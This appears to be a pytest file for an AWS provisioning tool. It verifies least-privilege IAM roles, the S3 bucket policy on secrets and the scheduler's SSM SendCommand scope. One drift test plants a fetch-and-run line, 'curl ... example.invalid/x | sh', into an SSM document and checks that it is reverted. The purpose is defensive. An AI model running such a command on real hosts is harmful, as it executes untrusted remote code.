"""One reader per secret: what the stack's roles and bucket policy let each principal do (least privilege).

Where the emulator evaluates the rule (moto's IAM-auth mode evaluates identity
policies by action), the test signs real requests with the role's
credentials. Where it does not (resource scoping of SSM actions, conditions
in bucket policies), the live policy documents are read back from the
emulator and evaluated by tests/provision/policy_eval.py. docs/TESTING.md
says which is which.
"""

from __future__ import annotations

import fnmatch
import json
from typing import Any

import boto3
import pytest
import yaml
from botocore.exceptions import ClientError
from policy_eval import ALLOW, DENY, IMPLICIT_DENY, Request, decide
from provhelpers import Runner, role_policies

from devtools import localaws

ACCOUNT = "123456789012"
BUCKET = "simpletrader-working-bucket"


def _outputs(run: Runner) -> dict[str, Any]:
    out = run("outputs", "--json")
    assert out.code == 0, out.err
    data: dict[str, Any] = json.loads(out.out)
    return data


def _session_of(role_arn: str) -> boto3.Session:
    """Credentials of a session of ``role_arn``, as the instance profile hands them to the host."""
    creds = boto3.client("sts").assume_role(RoleArn=role_arn, RoleSessionName="i-0123456789abcdef0")
    c = creds["Credentials"]
    return boto3.Session(aws_access_key_id=c["AccessKeyId"], aws_secret_access_key=c["SecretAccessKey"],
                         aws_session_token=c["SessionToken"], region_name="ap-south-1")


def _denied(call: Any, **kwargs: Any) -> bool:
    """The call is refused as not authorized (moto answers JSON services' denials with a bare 403)."""
    with pytest.raises(ClientError) as info:
        call(**kwargs)
    response = info.value.response
    return response["ResponseMetadata"]["HTTPStatusCode"] == 403 and response["Error"]["Code"] in (
        "403", "AccessDenied", "AccessDeniedException")


def test_instance_role_is_denied_every_parameter_read(run: Runner, moto: localaws.MotoServer) -> None:
    assert run("up", "--yes").code == 0
    key_parameter = _outputs(run)["key_parameter"]
    ssm = boto3.client("ssm")
    ssm.put_parameter(Name="/other-app/db-password", Value="unrelated-secret", Type="SecureString")
    boto3.client("s3").put_object(Bucket=BUCKET, Key="secrets/keys.json", Body=b"{}")
    host = _session_of(f"arn:aws:iam::{ACCOUNT}:role/simpletrader-instance")
    with moto.iam_enforced():
        # The emulator does evaluate this role's policies: its own secrets are readable ...
        assert host.client("s3").get_object(Bucket=BUCKET, Key="secrets/keys.json")["Body"].read() == b"{}"
        # ... and no parameter is, the SSH key's or any other.
        host_ssm = host.client("ssm")
        for name in (key_parameter, "/other-app/db-password"):
            assert _denied(host_ssm.get_parameter, Name=name, WithDecryption=True)
            assert _denied(host_ssm.get_parameters, Names=[name], WithDecryption=True)
        assert _denied(host_ssm.get_parameters_by_path, Path="/ec2/keypair/", WithDecryption=True)


def test_instance_role_policy_has_no_parameter_read(run: Runner) -> None:
    assert run("up", "--yes").code == 0
    documents = role_policies("simpletrader-instance")
    actions = [a.lower() for doc in documents for st in doc["Statement"] if st["Effect"] == "Allow"
               for a in (st["Action"] if isinstance(st["Action"], list) else [st["Action"]])]
    assert actions, "the role grants nothing at all?"
    reads = ("ssm:getparameter", "ssm:getparameters", "ssm:getparametersbypath", "ssm:getparameterhistory")
    assert not [a for a in actions if any(fnmatch.fnmatchcase(r, a) for r in reads)], actions
    # What Session Manager (AWS-StartSSHSession) needs stays.
    assert {"ssmmessages:createcontrolchannel", "ssmmessages:opendatachannel",
            "ssm:updateinstanceinformation"} <= set(actions)


def test_no_policy_the_operator_attaches_lets_the_host_read_the_ssh_key(run: Runner) -> None:
    """AmazonSSMManagedInstanceCore (which the original app attached) and ReadOnlyAccess both allow
    ssm:GetParameter on every parameter; the role's explicit Deny wins over them."""
    raw = yaml.safe_load(run.config.read_text())
    raw["instance"]["extra_policy_arns"] = ["arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore",
                                            "arn:aws:iam::aws:policy/ReadOnlyAccess"]
    run.config.write_text(yaml.safe_dump(raw, sort_keys=False))
    assert run("up", "--yes").code == 0
    key_arn = f"arn:aws:ssm:ap-south-1:{ACCOUNT}:parameter{_outputs(run)['key_parameter']}"
    documents = role_policies("simpletrader-instance")
    assert len(documents) == 3  # the stack's own and the two attached
    attached_only = documents[1:]
    for action in ("ssm:GetParameter", "ssm:GetParameters", "ssm:GetParameterHistory"):
        assert decide(attached_only, Request(action, key_arn)) == ALLOW  # what those policies alone allow
        assert decide(documents, Request(action, key_arn)) == DENY
    for path in ("/", "/ec2", "/ec2/keypair"):
        assert decide(documents, Request("ssm:GetParametersByPath",
                                         f"arn:aws:ssm:ap-south-1:{ACCOUNT}:parameter{path}")) == DENY
    # Other parameters stay the attached policies' business.
    other = f"arn:aws:ssm:ap-south-1:{ACCOUNT}:parameter/AmazonCloudWatch-linux"
    assert decide(documents, Request("ssm:GetParameter", other)) == ALLOW


def test_a_mistyped_extra_policy_is_found_by_plan_before_anything_is_made(run: Runner) -> None:
    raw = yaml.safe_load(run.config.read_text())
    raw["instance"]["extra_policy_arns"] = ["arn:aws:iam::aws:policy/CloudWatchAgentServerPolicyX"]
    run.config.write_text(yaml.safe_dump(raw, sort_keys=False))
    for command in (("plan",), ("up", "--yes")):
        result = run(*command)
        assert result.code == 1
        assert ("instance.extra_policy_arns[0]: arn:aws:iam::aws:policy/CloudWatchAgentServerPolicyX does not "
                "exist") in result.err
        assert run.last_recorder is not None and not run.last_recorder.mutating()


# --------------------------------------------------------------------------- the bucket policy

ADMIN = {"Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}  # e.g. AdministratorAccess
READ_ONLY = {"Statement": [{"Effect": "Allow", "Action": ["s3:Get*", "s3:List*"], "Resource": "*"}]}


def test_secrets_are_read_by_the_host_and_operators_only_and_written_by_operators(run: Runner) -> None:
    assert run("up", "--yes").code == 0
    bucket_policy = json.loads(boto3.client("s3").get_bucket_policy(Bucket=BUCKET)["Policy"])
    operator = boto3.client("sts").get_caller_identity()["Arn"]  # bucket.operators is empty: whoever ran up
    host = f"arn:aws:iam::{ACCOUNT}:role/simpletrader-instance"
    auditor = f"arn:aws:iam::{ACCOUNT}:user/auditor"  # another principal of the account, with ReadOnlyAccess
    identities = {operator: [ADMIN], host: role_policies("simpletrader-instance"), auditor: [READ_ONLY]}

    def access(principal: str, action: str, key: str, tls: bool = True) -> str:
        request = Request(f"s3:{action}", f"arn:aws:s3:::{BUCKET}/{key}", principal,
                          {"aws:SecureTransport": str(tls).lower()})
        return decide([*identities[principal], bucket_policy], request)

    for key in ("secrets/keys.json", "secrets/access_token.txt"):
        assert access(auditor, "GetObject", key) == DENY
        assert access(auditor, "GetObjectVersion", key) == DENY
        assert access(host, "GetObject", key) == ALLOW
        assert access(operator, "GetObject", key) == ALLOW
    for key in ("deploy/manifest.json", "deploy/releases/r/code.tar.gz", "secrets/keys.json"):
        for action in ("PutObject", "DeleteObject", "DeleteObjectVersion", "PutObjectAcl"):
            assert access(host, action, key) == DENY, (action, key)
            assert access(auditor, action, key) == DENY, (action, key)
            assert access(operator, action, key) == ALLOW, (action, key)
    # What the stack needs goes on: the host reads deploy/ and writes logs/ and ledger/ ...
    assert access(host, "GetObject", "deploy/manifest.json") == ALLOW
    assert access(host, "PutObject", "SimpleTraderLogs/2026-11-27/trades.csv") == ALLOW
    assert access(host, "PutObject", "SimpleTraderLedger/ledger.csv") == ALLOW
    # ... and plain HTTP is refused to everyone.
    assert access(operator, "GetObject", "deploy/manifest.json", tls=False) == DENY
    sids = [st["Sid"] for st in bucket_policy["Statement"]]
    assert sids == ["DenyInsecureTransport", "SecretsReadByHostAndOperatorsOnly",
                    "DeployAndSecretsWrittenByOperatorsOnly"]


def test_configured_operators_replace_the_caller_and_plan_names_them(run: Runner) -> None:
    import yaml

    alice = f"arn:aws:iam::{ACCOUNT}:user/alice"
    first = run("plan")
    assert "operators: arn:aws:sts::123456789012:user/moto (whoever runs this command" in first.out
    raw = yaml.safe_load(run.config.read_text())
    raw["bucket"]["operators"] = [alice]
    run.config.write_text(yaml.safe_dump(raw))
    assert run("up", "--yes").code == 0
    policy = json.loads(boto3.client("s3").get_bucket_policy(Bucket=BUCKET)["Policy"])
    caller = boto3.client("sts").get_caller_identity()["Arn"]
    write = Request("s3:PutObject", f"arn:aws:s3:::{BUCKET}/deploy/manifest.json", caller)
    assert decide([ADMIN, policy], write) == DENY  # the caller is no operator any more
    assert decide([ADMIN, policy], Request(write.action, write.resource, alice)) == ALLOW
    plan = run("plan", "--detailed-exitcode")
    assert plan.code == 0, plan.out
    assert f"bucket (simpletrader-working-bucket): operators (bucket.operators): {alice}" in plan.out


def test_an_assumed_role_operator_is_its_role_with_path(run: Runner) -> None:
    from provision.engine import Context
    from provision.operators import principal_arn

    iam = boto3.client("iam")
    role = iam.create_role(RoleName="Admin_0a1b", Path="/aws-reserved/sso.amazonaws.com/",
                           AssumeRolePolicyDocument=json.dumps(ADMIN))["Role"]["Arn"]
    ctx = Context(cfg=None, clients=run.clients())  # type: ignore[arg-type]
    session = f"arn:aws:sts::{ACCOUNT}:assumed-role/Admin_0a1b/alice@example.com"
    assert principal_arn(session, ctx) == role == (
        f"arn:aws:iam::{ACCOUNT}:role/aws-reserved/sso.amazonaws.com/Admin_0a1b")
    assert principal_arn(f"arn:aws:iam::{ACCOUNT}:user/bob", ctx) == f"arn:aws:iam::{ACCOUNT}:user/bob"


def test_the_evaluator_follows_aws_rules() -> None:
    """The cases the tests above rely on, from AWS's policy evaluation documentation."""
    deny_unless = {"Statement": [{"Effect": "Deny", "Principal": "*", "Action": "s3:GetObject*",
                                  "Resource": "arn:aws:s3:::b/secrets/*",
                                  "Condition": {"ArnNotLike": {"aws:PrincipalArn": ["arn:aws:iam::1:role/h"]}}}]}
    get = Request("s3:GetObject", "arn:aws:s3:::b/secrets/k", "arn:aws:iam::1:user/u")
    assert decide([READ_ONLY, deny_unless], get) == DENY
    assert decide([READ_ONLY, deny_unless], Request(get.action, get.resource, "arn:aws:iam::1:role/h")) == ALLOW
    # an anonymous request has no aws:PrincipalArn: a negated operator is then true, so the deny holds
    assert decide([deny_unless], Request(get.action, get.resource)) == DENY
    assert decide([deny_unless], Request("s3:GetObject", "arn:aws:s3:::b/deploy/k", "x")) == IMPLICIT_DENY
    assert decide([READ_ONLY], Request("S3:getobject", "arn:aws:s3:::b/x")) == ALLOW  # actions ignore case
    tls = {"Statement": [{"Effect": "Deny", "Principal": "*", "Action": "s3:*", "Resource": "*",
                          "Condition": {"Bool": {"aws:SecureTransport": "false"}}}]}
    assert decide([READ_ONLY, tls], get) == ALLOW  # key absent: a positive operator is false
    with pytest.raises(NotImplementedError):
        decide([{"Statement": [{**tls["Statement"][0], "Condition": {"IpAddress": {"aws:SourceIp": "1.2.3.4"}}}]}],
               get)


# --------------------------------------------------------------------------- what the functions may send


def test_the_functions_send_only_the_stack_documents_to_only_its_instance(run: Runner) -> None:
    assert run("up", "--yes").code == 0
    policies = role_policies("simpletrader-scheduler")
    instance = _outputs(run)["instance_id"]
    here = f"arn:aws:ssm:ap-south-1:{ACCOUNT}"

    def may_send(document_arn: str, instance_id: str = instance) -> bool:
        """SendCommand is authorized on the document and on each target instance."""
        on = [document_arn, f"arn:aws:ec2:ap-south-1:{ACCOUNT}:instance/{instance_id}"]
        return all(decide(policies, Request("ssm:SendCommand", arn)) == ALLOW for arn in on)

    for other in ("AWS-RunShellScript", "AWS-RunPowerShellScript", "AWS-RunRemoteScript", "AWS-StartSSHSession"):
        assert not may_send(f"arn:aws:ssm:ap-south-1::document/{other}"), other
    assert may_send(f"{here}:document/simpletrader-sync")
    assert may_send(f"{here}:document/simpletrader-eod")
    assert not may_send(f"{here}:document/someone-elses-document")
    assert not may_send(f"{here}:document/simpletrader-sync", "i-0fedcba9876543210")  # another instance

    # The documents hold the fixed command lines; a sender sets only the deadline.
    ssm = boto3.client("ssm")
    for name, command in (("simpletrader-sync", "simpletrader-workspace sync"),
                          ("simpletrader-eod", "simpletrader-workspace eod")):
        doc = ssm.describe_document(Name=name)["Document"]
        assert doc["DocumentType"] == "Command"
        content = json.loads(ssm.get_document(Name=name)["Content"])
        assert list(content["parameters"]) == ["executionTimeout"]
        steps = content["mainSteps"]
        assert [(s["action"], s["inputs"]["runCommand"]) for s in steps] == [("aws:runShellScript", [command])]
        tags = {t["Key"]: t["Value"] for t in ssm.list_tags_for_resource(
            ResourceType="Document", ResourceId=name)["TagList"]}
        assert tags["Stack"] == "simpletrader" and tags["ManagedBy"] == "simpletrader-provision"


def test_a_document_changed_by_hand_is_put_back(run: Runner) -> None:
    assert run("up", "--yes").code == 0
    ssm = boto3.client("ssm")
    tampered = json.loads(ssm.get_document(Name="simpletrader-sync")["Content"])
    tampered["mainSteps"][0]["inputs"]["runCommand"] = ["curl -s http://example.invalid/x | sh"]
    version = ssm.update_document(Name="simpletrader-sync", Content=json.dumps(tampered),
                                  DocumentVersion="$LATEST")["DocumentDescription"]["DocumentVersion"]
    ssm.update_document_default_version(Name="simpletrader-sync", DocumentVersion=version)
    plan = run("plan", "--detailed-exitcode")
    assert plan.code == 2 and "~ document.sync (simpletrader-sync)" in plan.out, plan.out
    assert run("up", "--yes").code == 0
    content = json.loads(ssm.get_document(Name="simpletrader-sync")["Content"])  # the default version
    assert content["mainSteps"][0]["inputs"]["runCommand"] == ["simpletrader-workspace sync"]
    assert run("plan", "--detailed-exitcode").code == 0


def test_status_finds_the_last_runs_by_document(run: Runner) -> None:
    assert run("up", "--yes").code == 0
    instance = _outputs(run)["instance_id"]
    ssm = boto3.client("ssm")
    before = run("status")
    assert "last start  - (no run of simpletrader-sync in the SSM history)" in before.out, before.out
    # A shell command naming the routine is not a run of the stack's document.
    ssm.send_command(InstanceIds=[instance], DocumentName="AWS-RunShellScript",
                     Parameters={"commands": ["simpletrader-workspace sync"]})
    ssm.send_command(InstanceIds=[instance], DocumentName="simpletrader-eod",
                     Parameters={"executionTimeout": ["600"]})
    after = run("status")
    assert "last start  - (no run of simpletrader-sync in the SSM history)" in after.out, after.out
    assert "last stop   Success (" in after.out and ", simpletrader-eod)" in after.out, after.out
